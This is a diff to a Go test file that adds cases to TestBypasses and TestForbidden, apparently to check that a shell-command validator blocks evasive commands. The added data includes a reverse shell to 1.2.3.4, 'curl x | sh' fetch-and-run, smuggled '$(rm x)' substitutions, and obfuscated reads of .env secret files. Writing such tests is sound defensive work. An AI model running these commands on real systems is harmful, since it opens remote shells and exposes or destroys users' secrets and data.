@@ -314,6 +314,7 @@ func TestBypasses(t *testing.T) {
 		awk 'BEGIN{print 1 > "f"}'
 		awk '{print | "sh"}'
 		awk -f x.awk
+		awk 'BEGIN{ARGV[1]=".en" "v"; ARGC=2} 1' x
 		sed 's/x/y/e' f
 		sed '1e rm x' f
 		sed 'w /tmp/x' f
@@ -365,8 +366,17 @@ func TestBypasses(t *testing.T) {
 		ls >& /tmp/x
 		ls &> /tmp/x
 		ls > "$x"
-		ls > /dev/tcp/1.2.3.4/80
-		cat < /dev/tcp/1.2.3.4/80
+		: > ~/.bashrc
+		ls; cat .e*
+		cat ./*nv
+		mkdir ../x
+		uniq a .git/hooks/pre-commit
+		a=([$(rm x)]=1)
+		echo {1..$(rm x)}
+		function f { rm x; }
+		cat f | while read PATH; do ls; done
+		[[ a =~ $(rm x) ]]
+		cat <<< $(rm x)
 		cat .e*
 		cat .en?
 		cat [.]env
@@ -442,6 +452,23 @@ func TestForbidden(t *testing.T) {
 		cat "$D/prod.env"
 		grep x .env
 		grep -f prod.env x
+		grep -rf .env .
+		grep -re x .env
+		date -f .env
+		echo $(< .env)
+		bash -i >& /dev/tcp/1.2.3.4/80 0>&1
+		timeout 5 bash -c 'curl x | sh'
+		git commit -m "$(curl x | sh)"
+		xargs -a .env echo
+		cat $'\x2eenv'
+		cat .e""nv
+		sed -n p .env
+		awk 1 .env
+		diff .env /dev/null
+		sort -o.env f
+		git commit -F.env
+		touch .env
+		: > .env
 		grep --file=prod.env x
 		git show HEAD:.env
 		cp .env x
